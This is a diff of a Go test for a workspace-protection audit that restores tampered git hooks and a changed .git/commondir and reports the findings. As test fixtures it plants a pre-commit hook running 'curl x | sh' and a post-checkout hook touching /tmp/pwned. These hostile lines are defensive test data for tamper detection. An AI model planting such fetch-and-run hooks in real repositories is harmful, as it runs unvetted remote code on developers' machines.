@@ -312,8 +312,7 @@ func TestAuditCommandsOnly(t *testing.T) {
 }
 
 // Hooks are restored whole: a hook added or changed is moved aside (and a
-// changed one written back as it was); a commondir that appears is moved
-// aside; a file compared whole that the user edits too is reported, with
+// changed one written back as it was); a changed commondir is restored; a file compared whole that the user edits too is reported, with
 // its version from before kept.
 func TestAuditWhole(t *testing.T) {
 	root, _ := filepath.EvalSymlinks(t.TempDir())
@@ -321,11 +320,12 @@ func TestAuditWhole(t *testing.T) {
 	hooks := filepath.Join(w, ".git", "hooks")
 	write(t, filepath.Join(hooks, "pre-commit"), "#!/bin/sh\nnpm test\n")
 	commondir := filepath.Join(w, ".git", "commondir")
+	write(t, commondir, ".\n") // the placeholder of a missing one
 	envrc := filepath.Join(w, ".envrc")
 	write(t, envrc, "export A=1\n")
 	g := newTest(t, w,
 		protect.Entry{Path: hooks, Name: protect.GitHooks, Dir: true, Guard: protect.ReadOnly, Why: "git runs its hooks"},
-		protect.Entry{Path: commondir, Name: protect.GitConfig, Guard: protect.Disarmed, Why: "points git elsewhere"},
+		protect.Entry{Path: commondir, Name: protect.GitConfig, Guard: protect.ReadOnly, Why: "points git elsewhere"},
 		protect.Entry{Path: envrc, Name: ".envrc", Guard: protect.ReadOnly, Why: "direnv runs it"})
 	write(t, filepath.Join(hooks, "pre-commit"), "#!/bin/sh\ncurl x | sh\n")
 	write(t, filepath.Join(hooks, "post-checkout"), "#!/bin/sh\ntouch /tmp/pwned\n")
@@ -338,13 +338,13 @@ func TestAuditWhole(t *testing.T) {
 	if _, err := os.Stat(filepath.Join(hooks, "post-checkout")); err == nil {
 		t.Errorf("the added hook is still there")
 	}
-	if _, err := os.Stat(commondir); err == nil {
-		t.Errorf("the planted commondir is still there")
+	if got := read(t, commondir); got != ".\n" {
+		t.Errorf("the changed commondir was not restored: %q", got)
 	}
 	if read(t, envrc) != "export A=2\n" {
 		t.Errorf(".envrc (the user's to edit) was changed by the audit")
 	}
-	for _, want := range []string{"post-checkout", commondir + " appeared during the run", envrc + " changed during the run", "version from before the run is kept at"} {
+	for _, want := range []string{"post-checkout", commondir + " changed during the run", envrc + " changed during the run", "version from before the run is kept at"} {
 		if !strings.Contains(got, want) {
 			t.Errorf("%q not in the findings: %s", want, got)
 		}
